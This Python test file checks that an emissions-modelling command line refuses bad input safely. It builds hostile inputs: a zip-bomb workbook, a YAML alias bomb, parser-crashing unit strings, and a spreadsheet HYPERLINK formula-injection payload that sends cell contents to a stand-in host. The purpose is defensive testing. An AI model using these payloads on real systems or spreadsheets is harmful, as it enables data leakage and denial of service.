"""Nothing lost, nothing hangs: every class of bad input at the command line's boundary.

Each case feeds one class of bad file or option to the ``m100`` command in a subprocess
bounded in memory (:data:`MEMORY`) and time (:data:`TIMEOUT`), so that a regression fails
instead of hanging CI or exhausting memory, and asserts what the kit promises: exit code 2,
exactly one line on standard error that names the file (and row, column or field) and what
was expected, no traceback, and nothing written (the ``--out`` folder and its hidden
temporary siblings do not exist).

The memory bound is on the address space (``RLIMIT_AS``, ``ulimit -v``), except for the
commands that draw charts or check first that they can: vl-convert's V8 engine reserves
some 72 GB of address space it never uses, so these run with the same bound on the memory
a process writes to (``RLIMIT_DATA``: heap and private mappings, not V8's reservation).
The cases that complete the tests of issue 12 at the command line (real kills, concurrent
writers, the readers' caps and the time they take) are in tests/test_hardening_bounds.py.
"""

from __future__ import annotations

import io
import json
import os
import resource
import shutil
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

from m100model.io import (
    OutputExistsError,
    finite,
    neutralised,
    safe_text,
    write_csv,
    write_json,
    write_results_dir,
)
from m100model.tables import data_dir

REPO = data_dir().parent
INVENTORY = REPO / "data" / "inventories" / "suceava_2021.csv"
OTHER_CITY = REPO / "data" / "inventories" / "cluj_napoca_2021.csv"
WORKSHOP = REPO / "data" / "scenarios" / "workshop.yaml"
MEMORY = 3 * 2**30  # address space of each command: ample for the kit, far below a blow-up
TIMEOUT = 120  # seconds; every case here is refused in a few


def _limits(kind: int = resource.RLIMIT_AS) -> Callable[[], None]:
    def set_limit() -> None:
        resource.setrlimit(kind, (MEMORY, MEMORY))

    return set_limit


def bounded(limit: bool | str = True) -> Callable[[], None] | None:
    """The ``preexec_fn`` of a bounded subprocess: ``True`` bounds its address space,
    ``"data"`` the memory it writes to (for commands that start vl-convert), ``False``
    nothing."""
    if limit == "data":
        return _limits(resource.RLIMIT_DATA)
    return _limits() if limit else None


def m100(
    args: list[str], cwd: Path, *, limit: bool | str = True, timeout: float = TIMEOUT
) -> subprocess.CompletedProcess:
    env = {**os.environ, "COLUMNS": "250", "PYTHONWARNINGS": "ignore"}
    return subprocess.run(
        [sys.executable, "-m", "m100model.cli", *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=timeout,
        preexec_fn=bounded(limit),
        env=env,
    )


def refused(
    args: list[str], cwd: Path, *words: str, out: Path | None = None, limit: bool | str = True
) -> str:
    """Run, and assert the refusal: exit 2, one line naming ``words``, nothing written."""
    p = m100(args, cwd, limit=limit)
    lines = p.stderr.strip().splitlines()
    assert p.returncode == 2, (p.returncode, p.stderr[-2000:], p.stdout[-500:])
    assert "Traceback" not in p.stderr
    assert "Value error" not in p.stderr and "Input should" not in p.stderr  # pydantic's words
    assert len(lines) == 1, p.stderr
    for w in words:
        assert w in lines[0], (w, lines[0])
    if out is not None:
        assert not out.exists()
        assert not [x for x in out.parent.glob(f".{out.name}.*")], "a temporary folder stayed"
    return lines[0]


@pytest.fixture
def work(tmp_path: Path) -> Path:
    shutil.copy(INVENTORY, tmp_path / "suceava.csv")
    return tmp_path


def _inventory_rows() -> pd.DataFrame:
    return pd.read_csv(INVENTORY, dtype=str, keep_default_na=False)


def _write_xlsx(df: pd.DataFrame, path: Path, **cells: object) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(list(df.columns))
    for row in df.itertuples(index=False):
        values = []
        for col, v in zip(df.columns, row, strict=True):
            if col in ("amount", "year") and v not in ("", None):
                values.append(float(v) if col == "amount" else int(v))
            else:
                values.append(v or None)
        ws.append(values)
    for ref, value in cells.items():
        ws[ref] = value
    wb.save(path)
    return path


def _with(df: pd.DataFrame, row: int, **values: str) -> pd.DataFrame:
    df = df.copy()
    for col, v in values.items():
        df.loc[row, col] = v
    return df


def _first_amount_row(df: pd.DataFrame) -> int:
    return int(df.index[df["amount"] != ""][0])


def _scenario(path: Path, **fields: object) -> Path:
    raw = {"name": "t", "cities": ["suceava"], "archetypes": ["mob_ebus", "en_led"]}
    raw.update(fields)
    path.write_text(yaml.safe_dump(raw, sort_keys=False), encoding="utf-8")
    return path


# ---------------------------------------------------------------------------------------
# Hangs and memory exhaustion: every input bounded
# ---------------------------------------------------------------------------------------
def test_a_stray_cell_at_xfd1048576_is_named_not_allocated(work):
    path = _write_xlsx(_inventory_rows(), work / "stray.xlsx", XFD1048576="x")
    assert path.stat().st_size < 20_000
    refused(
        ["inventory", path, "--out", work / "o"], work, "stray.xlsx", "XFD1048576", out=work / "o"
    )


def test_the_same_workbook_without_the_stray_cell_is_read(work):
    path = _write_xlsx(_inventory_rows(), work / "ok.xlsx")
    p = m100(["inventory", path, "--format", "json"], work)
    assert p.returncode == 0, p.stderr
    from_csv = m100(["inventory", work / "suceava.csv", "--format", "json"], work)
    assert json.loads(p.stdout)["basic_tco2e"] == pytest.approx(
        json.loads(from_csv.stdout)["basic_tco2e"]
    )


def test_a_zip_bomb_workbook_is_refused_by_its_unpacked_size(work):
    buf = io.BytesIO()
    _write_xlsx(_inventory_rows(), work / "ok.xlsx")
    with zipfile.ZipFile(work / "ok.xlsx") as src, zipfile.ZipFile(buf, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename), compress_type=zipfile.ZIP_DEFLATED)
        dst.writestr("xl/padding.bin", b"\0" * (200 * 2**20), compress_type=zipfile.ZIP_DEFLATED)
    bomb = work / "bomb.xlsx"
    bomb.write_bytes(buf.getvalue())
    assert bomb.stat().st_size < 2**20
    refused(
        ["inventory", bomb, "--out", work / "o"], work, "bomb.xlsx", "unpacks to", out=work / "o"
    )


@pytest.mark.parametrize(
    "unit",
    [
        "m" + "**2" * 30,  # repeated powers: pint would compute m**(2**30)
        "(" * 40 + "MWh" + ")" * 40,  # nested brackets: RecursionError in pint's parser
        "MWh**2**2",
        "MWh**99",
        "10**9 MWh",
        "MWh" + " kWh" * 30,
    ],
    ids=["repeated-powers", "nested-brackets", "power-of-power", "big-power", "number", "long"],
)
def test_unit_strings_are_units_not_expressions(work, unit):
    df = _inventory_rows()
    row = _first_amount_row(df)
    _with(df, row, unit=unit).to_csv(work / "u.csv", index=False)
    refused(
        ["inventory", "u.csv", "--out", work / "o"],
        work,
        "u.csv",
        f"row {row + 2}",
        "'unit'",
        out=work / "o",
    )


def test_an_alias_bomb_in_a_distribution_is_refused_before_it_is_built(work):
    bomb = "\n".join(
        ["a0: &a0 [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]"]
        + [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
    )
    text = WORKSHOP.read_text(encoding="utf-8").replace(
        "distribution: {name: triang, c: 0.5, loc: 0.7, scale: 0.6}",
        "distribution: {name: triang, c: 0.5, loc: 0.7, scale: 0.6, extra: *a8}",
        1,
    )
    path = work / "bomb.yaml"
    path.write_text(bomb + "\n" + text, encoding="utf-8")
    refused(
        ["ensemble", path, "--out", work / "o"],
        work,
        "bomb.yaml",
        "expands to more than",
        out=work / "o",
    )


def test_solver_threads_are_bounded(work):
    path = _scenario(work / "s.yaml", solver={"threads": 100_000})
    refused(["run", path, "--out", work / "o"], work, "s.yaml", "solver.threads", out=work / "o")


def test_samples_on_the_command_line_are_bounded_like_the_yaml(work):
    refused(
        ["ensemble", WORKSHOP, "--samples", "100000000", "--out", work / "o"],
        work,
        "--samples",
        "100,000",
        out=work / "o",
    )


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
@pytest.mark.parametrize("role", ["inventory", "scenario"])
def test_a_pipe_or_device_is_not_read(work, kind, role):
    path = work / ("in.csv" if role == "inventory" else "in.yaml")
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    args = ["inventory", path] if role == "inventory" else ["run", path]
    refused([*args, "--out", work / "o"], work, path.name, "not a regular file", out=work / "o")


# ---------------------------------------------------------------------------------------
# Tracebacks: caught at the boundary, with what is wrong
# ---------------------------------------------------------------------------------------
def test_a_folder_named_csv_is_not_an_inventory(work):
    (work / "dir.csv").mkdir()
    refused(
        ["inventory", "dir.csv", "--out", work / "o"],
        work,
        "dir.csv",
        "is a folder",
        out=work / "o",
    )
    refused(["decompose", "dir.csv", "suceava.csv"], work, "dir.csv", "is a folder")
    path = _scenario(work / "s.yaml", inventories={"suceava": str(work / "dir.csv")})
    refused(
        ["run", path, "--out", work / "o"], work, "s.yaml", "inventories.suceava", out=work / "o"
    )


@pytest.mark.parametrize("role", ["inventory", "scenario", "scenario-inventory"])
def test_a_symlink_loop_is_named(work, role):
    (work / "a.csv").symlink_to("b.csv")
    (work / "b.csv").symlink_to("a.csv")
    (work / "a.yaml").symlink_to("b.yaml")
    (work / "b.yaml").symlink_to("a.yaml")
    if role == "inventory":
        refused(["inventory", "a.csv", "--out", work / "o"], work, "a.csv", "loop", out=work / "o")
    elif role == "scenario":
        refused(["run", "a.yaml", "--out", work / "o"], work, "a.yaml", "loop", out=work / "o")
    else:
        path = _scenario(work / "s.yaml", inventories={"suceava": str(work / "a.csv")})
        refused(
            ["run", path, "--out", work / "o"], work, "inventories.suceava", "loop", out=work / "o"
        )


def test_a_scenario_that_is_not_utf8_names_the_line(work):
    path = work / "latin2.yaml"
    path.write_bytes("name: t\ndescription: Bra\xbaov\ncities: [brasov]\n".encode("latin-1"))
    refused(
        ["run", path, "--out", work / "o"],
        work,
        "latin2.yaml",
        "not UTF-8",
        "line 2",
        out=work / "o",
    )


def test_a_scenario_that_is_a_folder(work):
    (work / "s.yaml").mkdir()
    refused(["run", "s.yaml", "--out", work / "o"], work, "s.yaml", "is a folder", out=work / "o")


def test_a_deeply_nested_scenario(work):
    path = work / "deep.yaml"
    path.write_text("name: t\ncities: [suceava]\ndescription: " + "[" * 5000 + "]" * 5000)
    refused(
        ["run", path, "--out", work / "o"], work, "deep.yaml", "nested more than", out=work / "o"
    )


def test_an_unknown_grid_scenario(work):
    path = _scenario(work / "s.yaml", grid_scenario="nope")
    refused(
        ["run", path, "--out", work / "o"],
        work,
        "grid_scenario",
        "unknown grid trajectory",
        out=work / "o",
    )


@pytest.mark.parametrize("field", ["archetypes", "instruments"])
def test_empty_archetype_and_instrument_lists(work, field):
    path = _scenario(work / "s.yaml", **{field: []})
    refused(
        ["run", path, "--out", work / "o"], work, f"field '{field}'", "at least one", out=work / "o"
    )


def _unwritable(work: Path) -> Path:
    """A folder this process cannot create anything in."""
    if os.geteuid() != 0:
        ro = work / "ro"
        ro.mkdir()
        ro.chmod(0o555)
        return ro
    try:  # root passes permission checks: a read-only file system it is
        Path(os.path.join("/sys", ".m100-probe")).mkdir()
    except OSError:
        return Path("/sys")
    pytest.skip("no folder here that root cannot write")


def test_an_unwritable_out_is_refused_before_solving(work):
    folder = _unwritable(work)
    started = time.perf_counter()
    line = refused(["run", WORKSHOP, "--out", folder / "res"], work, "cannot be written")
    assert str(folder) in line
    # Refused before the model is built: no solver line was printed either.
    assert time.perf_counter() - started < TIMEOUT


def test_an_unwritable_out_is_refused_before_the_model_is_assembled(work, monkeypatch):
    """The order, not the time: with the model's assembly made to fail loudly, the run still
    ends with the one line about the folder, so the folder is checked before any work."""
    from typer.testing import CliRunner

    import m100model.report
    from m100model.cli import app

    def assembled(*args, **kwargs):
        raise AssertionError("the model was assembled before the output folder was checked")

    monkeypatch.setattr(m100model.report, "run_scenario", assembled)
    folder = _unwritable(work)
    result = CliRunner().invoke(app, ["run", str(WORKSHOP), "--out", str(folder / "res")])
    assert result.exit_code == 2, result.output
    assert "cannot be written" in result.stderr
    assert not isinstance(result.exception, AssertionError)


def test_a_concurrent_writer_never_loses_the_rename_race(tmp_path):
    """Many writers of one folder at once, with --force: each finishes without error and
    the folder holds one writer's complete results; without --force the later ones are
    refused with a message, not a traceback."""
    target = tmp_path / "res"
    errors: list[BaseException] = []

    def writer(i: int, force: bool) -> None:
        def fill(folder: Path) -> None:
            for k in range(20):
                (folder / f"f{k}.txt").write_text(str(i))
                time.sleep(0.001)

        try:
            write_results_dir(target, fill, force=force)
        except OutputExistsError:
            if force:
                raise
        except BaseException as exc:
            errors.append(exc)

    for force in (True, False):
        shutil.rmtree(target, ignore_errors=True)
        threads = [threading.Thread(target=writer, args=(i, force)) for i in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert not errors, errors
        contents = {(target / f"f{k}.txt").read_text() for k in range(20)}
        assert len(contents) == 1  # one writer's files, whole
        assert not list(tmp_path.glob(".res.*"))


# ---------------------------------------------------------------------------------------
# Wrong results without a word: meaning checked, not only syntax
# ---------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("amount", "words"),
    [("1e999", "finite"), ("1e300", "more than any city's activity"), ("inf", "finite")],
)
def test_amounts_that_overflow_never_reach_the_summary(work, amount, words):
    df = _inventory_rows()
    row = _first_amount_row(df)
    _with(df, row, amount=amount).to_csv(work / "big.csv", index=False)
    refused(
        ["inventory", "big.csv", "--out", work / "o"],
        work,
        "big.csv",
        f"row {row + 2}",
        words,
        out=work / "o",
    )


def test_summary_json_stays_valid_json():
    path_data = {"a": float("inf"), "b": [float("nan"), 1.0], "c": {"d": -float("inf")}}
    assert finite(path_data) == {"a": None, "b": [None, 1.0], "c": {"d": None}}


def test_written_json_has_no_nan_or_infinity(tmp_path):
    write_json(tmp_path / "s.json", {"x": float("nan"), "y": 2.5})

    def refuse(name: str) -> None:
        raise AssertionError(f"{name} in JSON")

    assert json.loads((tmp_path / "s.json").read_text(), parse_constant=refuse) == {
        "x": None,
        "y": 2.5,
    }


@pytest.mark.parametrize(
    ("unit", "meant"),
    [("ton", "t (tonne)"), ("gal", "L (litre)"), ("lb", "kg"), ("therm", "MWh or GJ")],
)
def test_us_customary_units_are_refused_with_the_metric_unit_meant(work, unit, meant):
    df = _inventory_rows()
    row = _first_amount_row(df)
    _with(df, row, unit=unit).to_csv(work / "us.csv", index=False)
    refused(
        ["inventory", "us.csv", "--out", work / "o"],
        work,
        "US customary",
        f"write {meant}",
        out=work / "o",
    )


def test_kt_is_a_kilotonne_not_a_knot(work):
    df = _inventory_rows()
    waste = df.index[(df["unit"] == "t") & (df["amount"] != "")][0]
    kt = _with(df, waste, amount=str(float(df.loc[waste, "amount"]) / 1000), unit="kt")
    kt.to_csv(work / "kt.csv", index=False)
    a = m100(["inventory", "kt.csv", "--format", "json"], work)
    b = m100(["inventory", "suceava.csv", "--format", "json"], work)
    assert a.returncode == 0, a.stderr
    assert json.loads(a.stdout)["basic_tco2e"] == pytest.approx(json.loads(b.stdout)["basic_tco2e"])


def test_a_spreadsheet_boolean_is_not_an_amount(work):
    df = _inventory_rows()
    row = _first_amount_row(df)
    path = _write_xlsx(df, work / "bool.xlsx", **{f"E{row + 2}": True})
    assert df.columns[4] == "amount"
    refused(
        ["inventory", path, "--out", work / "o"],
        work,
        "bool.xlsx",
        f"row {row + 2}",
        "yes/no",
        out=work / "o",
    )


def test_a_yaml_yes_is_not_a_number(work):
    path = _scenario(work / "s.yaml", project_scale=True)
    refused(
        ["run", path, "--out", work / "o"],
        work,
        "project_scale",
        "expected a number",
        out=work / "o",
    )


def test_a_repeated_key_in_a_scenario_is_refused(work):
    path = work / "s.yaml"
    path.write_text("name: t\ncities: [suceava]\ndiscount_rate: 0.04\ndiscount_rate: 0.2\n")
    refused(
        ["run", path, "--out", work / "o"],
        work,
        "s.yaml",
        "repeats the key 'discount_rate'",
        "lines 3 and 4",
        out=work / "o",
    )


def test_an_inventory_of_another_city_is_refused(work):
    path = _scenario(work / "s.yaml", inventories={"suceava": str(OTHER_CITY)})
    refused(
        ["decompose-plan", path],
        work,
        "cluj_napoca_2021.csv",
        "'cluj_napoca'",
        "'suceava'",
        "column 'city'",
    )


def test_text_cells_cannot_run_as_formulas(work):
    """The city column is the user's text that reaches the output tables (every row of
    emissions.csv): a spreadsheet opening it must show it, not run it."""
    df = _inventory_rows()
    df["city"] = '=HYPERLINK("http://x.example/?"&A1,"click")'
    df.to_csv(work / "evil.csv", index=False)
    p = m100(["inventory", "evil.csv", "--out", work / "o"], work)
    assert p.returncode == 0, p.stderr
    emissions = pd.read_csv(work / "o" / "emissions.csv", dtype=str)
    assert (emissions["city"] == "'" + df["city"].iloc[0]).all()


def test_neutralised_tables_in_excel_stay_text(tmp_path):
    df = pd.DataFrame({"name": ["=1+1", "@SUM(A1)", "-2+3", "ok"], "value": [-1.0, 2.0, 3.0, 4.0]})
    df.index = pd.Index(["=A1", "b", "c", "d"], name="id")
    path = tmp_path / "t.xlsx"
    with pd.ExcelWriter(path, engine="openpyxl") as xl:
        neutralised(df).to_excel(xl)
    ws = openpyxl.load_workbook(path).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula at all
    assert ws["A2"].value == "'=A1" and ws["B2"].value == "'=1+1" and ws["C2"].value == -1
    assert safe_text("-12.5") == "-12.5"  # a number written as text is left alone
    write_csv(tmp_path / "t.csv", df.reset_index())
    assert "'-2+3" in (tmp_path / "t.csv").read_text()


# ---------------------------------------------------------------------------------------
# vl-convert under an address-space limit: a message, not a SIGTRAP
# ---------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "command",
    [
        ["alternatives", WORKSHOP],
        ["tornado", WORKSHOP],
        ["pareto", WORKSHOP],
        ["ensemble", WORKSHOP, "--samples", "2"],
    ],
    ids=lambda c: c[0],
)
def test_charts_under_an_address_space_limit_give_a_message(work, command):
    """Every command that draws charts says so in one line under an address-space limit
    (RLIMIT_AS, which V8 aborts under) before any work; nothing is written."""
    refused(
        [*command, "--out", work / "o"],
        work,
        "charts cannot be drawn here",
        "ulimit -v",
        out=work / "o",
    )


def test_a_report_under_an_address_space_limit_gives_a_message(work, monkeypatch):
    """m100 run draws the report's charts unless the Vega bundle is cached already: with no
    cache (an empty M100_CACHE_DIR) it too says so in one line under the limit."""
    monkeypatch.setenv("M100_CACHE_DIR", str(work / "empty-cache"))
    refused(
        ["run", WORKSHOP, "--out", work / "o"],
        work,
        "charts cannot be drawn here",
        "ulimit -v",
        out=work / "o",
    )


# ---------------------------------------------------------------------------------------
# Found by the fuzz tests: a solve stopped on a limit before it found any plan
# ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("command", ["run", "decompose-plan", "alternatives", "tornado"])
def test_a_solve_without_any_plan_is_a_message_not_a_traceback(work, command):
    text = WORKSHOP.read_text(encoding="utf-8") + "solver: {time_limit: 0.000001}\n"
    path = work / "tiny.yaml"
    path.write_text(text, encoding="utf-8")
    out = [] if command == "decompose-plan" else ["--out", work / "o"]
    refused(
        [command, path, *out],
        work,
        "tiny.yaml",
        "solver.time_limit",
        "before it found any plan",
        out=work / "o",
        limit="data",  # alternatives and tornado check first that they can draw charts
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_column_given_twice_is_refused(work, fmt):
    """Found by the fuzz tests: 'Comment' and 'comment' are one column once normalised; which
    one would be read was pandas' choice, with a warning."""
    df = _inventory_rows()
    df.insert(len(df.columns), "Comment ", "x")
    path = work / f"twice.{fmt}"
    if fmt == "csv":
        df.to_csv(path, index=False)
    else:
        _write_xlsx(df, path)
    refused(
        ["inventory", path, "--out", work / "o"],
        work,
        "two columns named 'comment'",
        out=work / "o",
    )
